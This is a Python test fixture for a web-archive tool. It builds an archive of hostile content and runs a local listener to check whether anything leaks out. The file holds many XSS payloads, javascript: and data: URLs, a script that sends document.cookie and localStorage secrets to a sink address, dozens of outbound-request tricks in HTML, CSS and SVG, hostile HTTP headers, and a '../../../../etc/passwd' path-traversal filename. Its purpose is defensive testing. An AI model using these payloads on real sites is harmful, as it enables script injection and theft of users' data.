"""An archive whose every word, address and byte is an attack, and a sink that hears what gets out."""

# ruff: noqa: E501 (markup is told by its lines)

import http.server
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager
from pathlib import Path

from archive.extract import READER
from archive.ingest.archive import Archive
from archive.models import Block, Content, Exchange, Image, Link, Provenance, Stamp
from archive.morgue import Morgue
from archive.spool import Spool
from archive.store import sources
from archive.store.connection import connect_writer, transaction
from archive.warc.records import WarcInfo
from tests.morgues import moment

SCRIPT = "<script>document.title='owned';fetch('SINK/text')</script>"
IMAGE = "<img src=x onerror=\"document.title='owned'\">"
MARKUP = f"{SCRIPT} {IMAGE} {{{{7*7}}}} </title></style><svg onload=alert(1)> &amp; \u202egnp.exe \x02x\x03"
URL = "https://evil.example/news/a?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"
OTHER = "https://fair.example/news/b"


def content(number: int, sink: str) -> Content:
    """Return a reading in which every field attacks; the number makes versions differ."""
    markup = MARKUP.replace("SINK", sink)
    paragraphs = [
        f"Version {number} says {markup} to the Kittiwake Foundation of Port Ambry.",
        f"“Nobody will ever take this quotation from us {markup}” said Ana {IMAGE} Weil.",
        f"{number} people died {markup}.",
    ]
    links = (Link("javascript:document.title='owned'", markup), Link(f"data:text/html,{SCRIPT}", "x"))
    return Content(
        headline=f"{markup} {number} dead",
        blocks=tuple(Block(text, f"main/{IMAGE}", kept=True, links=links) for text in paragraphs),
        standfirst=markup,
        byline=f"By {markup}",
        authors=(markup,),
        published=Stamp("2026-11-16T08:00:00Z", "meta", raw=markup),
        section=markup,
        tags=(markup, "javascript:alert(1)"),
        language='en" onmouseover="alert(1)',
        image=Image("javascript:alert(1)", caption=markup, credit=markup),
        reader=READER,
    )


def page(sink: str) -> bytes:
    """Return a page that tries every way out that a page has without being clicked."""
    return f"""<!DOCTYPE html><html><head><base href="{sink}/base/">
<meta http-equiv="refresh" content="0;url={sink}/refresh"><meta http-equiv="set-cookie" content="owned=1">
<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri {sink}/report">
<link rel="manifest" href="{sink}/manifest"><link rel="modulepreload" href="{sink}/module"><link rel="preconnect" href="{sink}">
<script type="speculationrules">{{"prefetch":[{{"urls":["{sink}/speculation"]}}]}}</script><title>hostile</title>
<link rel="stylesheet" href="{sink}/style.css"><link rel="stylesheet" href="https://evil.example/s.css"><link rel="icon" href="{sink}/icon"><link rel="preload" as="image"
href="{sink}/preload"><link rel="prefetch" href="{sink}/prefetch"><link rel="dns-prefetch" href="//{sink[7:]}">
<style>@import "{sink}/import.css"; body {{ background: url({sink}/background) }}
@font-face {{ font-family: x; src: url({sink}/font) }} p {{ font-family: x }}</style>
<script>top.document.title='owned'; document.cookie='a=b'; localStorage.x=1; fetch('{sink}/fetch');
new Image().src='{sink}/secrets?'+document.cookie+localStorage.secret; new Worker('{sink}/worker');
new WebSocket('ws'+'{sink}/socket'.slice(4)); new EventSource('{sink}/events'); import('{sink}/import');
window.opener&&(opener.location='{sink}/opener'); history.pushState(0,'','/owned');
window.open('{sink}/open'); top.location='{sink}/top'; navigator.sendBeacon('{sink}/beacon')</script></head>
<body onload="fetch('{sink}/onload')" background="{sink}/bodybackground">
<p style="background:url('{sink}/inline')">text</p><p style="cursor:url({sink}/cursor),auto;mask:url({sink}/mask)">x</p>
<style>p::before {{ content: url({sink}/content) }} p {{ filter: url({sink}/filter#f); list-style-image: url({sink}/list) }}
p {{ background: image-set('{sink}/set' 1x); border-image: -webkit-image-set(url({sink}/webkit) 1x) }}</style>
<input type="image" src="{sink}/inputimage"><table background="{sink}/table"><tr><td background="{sink}/cell">t</table>
<div><template shadowrootmode="open"><img src="{sink}/shadow"><style>@import "{sink}/shadowimport"</style></template></div>
<svg><foreignObject><img src="{sink}/foreign" onerror="top.document.title='owned'"></foreignObject>
<style>@import "{sink}/svgimport"</style><feImage href="{sink}/feimage"/><script href="{sink}/svgscript"></script></svg>
<img src="//{sink[7:]}/bare"><img src="http:\\{sink[7:]}/slashes"><img src="&#104;ttp://{sink[7:]}/entity"><img src=" {sink}/blank ">
<details open ontoggle="top.document.title='owned'"><summary>d</summary></details><marquee onstart="top.document.title='owned'">m</marquee>
<noembed><img src="{sink}/noembed"></noembed><xmp><img src="{sink}/xmp"></xmp><frameset><frame src="{sink}/frame"></frameset><img src="{sink}/img" srcset="{sink}/srcset 2x"
onerror="top.document.title='owned'"><img src="relative"><img src="https://evil.example/x.svg"><picture><source srcset="{sink}/source"><img src="x"></picture>
<video src="{sink}/video" poster="{sink}/poster" autoplay><track default src="{sink}/track"></video><audio src="{sink}/audio" autoplay></audio>
<iframe src="{sink}/iframe" srcdoc="<script>top.document.title='owned'</script>"></iframe>
<object data="{sink}/object"></object><embed src="{sink}/embed">
<svg><image href="{sink}/svg" xlink:href="{sink}/xlink"/><use href="{sink}/use#x"/><a id="s" href="javascript:alert(1)">
<animate attributeName="href" values="{sink}/animated"/><text y="20">s</text></a></svg>
<form action="{sink}/form" id="f"><input name="a" autofocus onfocus="fetch('{sink}/focus')"><button id="b">go</button>
<button formaction="{sink}/formaction" id="c">go</button></form>
<a id="j" href="javascript:top.document.title='owned'">j</a><a id="d" href="data:text/html,{SCRIPT}">d</a>
<a id="l" href="{sink}/link" ping="{sink}/ping" target="_top">l</a><math href="{sink}/math"><mi>x</mi></math>
<noscript><img src="{sink}/noscript"></noscript></body></html>""".encode()


def picture(sink: str) -> bytes:
    """Return an SVG that is a page when it is opened alone."""
    return f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" onload="document.title='owned'">
<script>document.title='owned'; fetch('{sink}/svg')</script><image href="{sink}/svgimage"/><style>@import "{sink}/svgcss";</style>
<foreignObject><h:iframe src="{sink}/svgframe"/><h:script>fetch('{sink}/hscript')</h:script></foreignObject></svg>""".encode()


def sheet(sink: str) -> bytes:
    """Return a stylesheet that fetches more."""
    return f"""@import "{sink}/sheet1"; @import url({sink}/sheet2) screen; @\69mport "{sink}/sheet3";
body {{ background: url({sink}/sheet4), u\72l("{sink}/sheet5"); content: image-set("{sink}/sheet6" 1x) }}
@font-face {{ font-family: y; src: url({sink}/sheet7) }} p {{ font-family: y; behavior: url({sink}/sheet8) }}
</style><script>document.title='owned'</script>""".encode()


PARTS = {"https://evil.example/x.svg": "image/svg+xml", "https://evil.example/s.css": "text/css"}


def build(folder: Path, sink: str) -> Morgue:
    """Make the archive: two versions of a hostile article, and one at another outlet with the same words."""
    info = WarcInfo(software="rowback test", operator="tests", user_agent="rowback/test")
    with Archive.open(folder, info, now=moment("2026-11-16 08:00")) as archive:
        for outlet in ("evil", "fair"):
            row = sources.OutletRow(name=outlet, title=f"{outlet} {MARKUP}", home=f"https://{outlet}.example/")
            with transaction(archive.connection):
                sources.put_outlet(archive.connection, row)
        looks = (("evil", URL, "09:00", 12), ("evil", URL, "12:00", 14), ("fair", OTHER, "10:00", 13))
        for outlet, url, at, number in looks:
            when = moment(f"2026-11-16 {at}")
            (capture,) = archive.keep([exchange(outlet, url, at, page(sink) + f"<!-- {at} -->".encode())])
            archive.keep_reading(capture.id, content(number, sink), when)
        for made, (url, mime) in zip((picture(sink), sheet(sink)), PARTS.items(), strict=True):
            archive.keep([exchange("evil", url, "13:00", made, mime=mime)])
    morgue = Morgue(folder)
    with closing(connect_writer(morgue)) as connection:  # as in a database that somebody gave us
        connection.execute("UPDATE outlets SET home = 'javascript:document.title=1'")
        connection.execute(
            "INSERT INTO article_urls SELECT id, 'JaVaScRiPt:alert(1)', 'x', ?, first_captured_at FROM articles",
            (MARKUP,),
        )
        connection.execute("UPDATE captures SET filename = '../../../../etc/passwd' WHERE url = ?", (OTHER,))
    return morgue


def exchange(outlet: str, url: str, at: str, body: bytes, *, mime: str = "text/html") -> Exchange:
    """Return an exchange whose headers attack, too."""
    when = moment(f"2026-11-16 {at}")
    head = b"HTTP/1.1 200 OK\r\nContent-Type: %s\r\nX-Evil: <script>alert(1)</script>\r\nRefresh: 0;url=/owned\r\n"
    head += b"Set-Cookie: owned=1\r\nLink: </owned>; rel=preload; as=script\r\nContent-Length: %d\r\n\r\n"
    return Exchange(
        url=url,
        started_at=when,
        finished_at=when,
        request=b"GET / HTTP/1.1\r\n\r\n",
        response=Spool(head % (mime.encode(), len(body)) + body),
        ip_address="192.0.2.7",
        provenance=Provenance(outlet=outlet, purpose="article" if mime == "text/html" else "other"),
    )


@contextmanager
def sink() -> Iterator[tuple[str, list[str]]]:
    """Listen for whatever gets out; the value is its address and the requests that it had."""
    heard: list[str] = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(f"{self.command} {self.path}")
            self.send_response(204)
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, format: str, *args: object) -> None: ...

    with _listening(Listener) as address:
        yield address, heard


@contextmanager
def sending(body: bytes, policy: str) -> Iterator[str]:
    """Send one page for every address, with a policy; the value is the address."""

    class Sender(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Security-Policy", policy)
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None: ...

    with _listening(Sender) as address:
        yield address


@contextmanager
def _listening(handler: type[http.server.BaseHTTPRequestHandler]) -> Iterator[str]:
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as listening:
        thread = threading.Thread(target=listening.serve_forever, daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{listening.server_address[1]}"
        finally:
            listening.shutdown()
            thread.join()
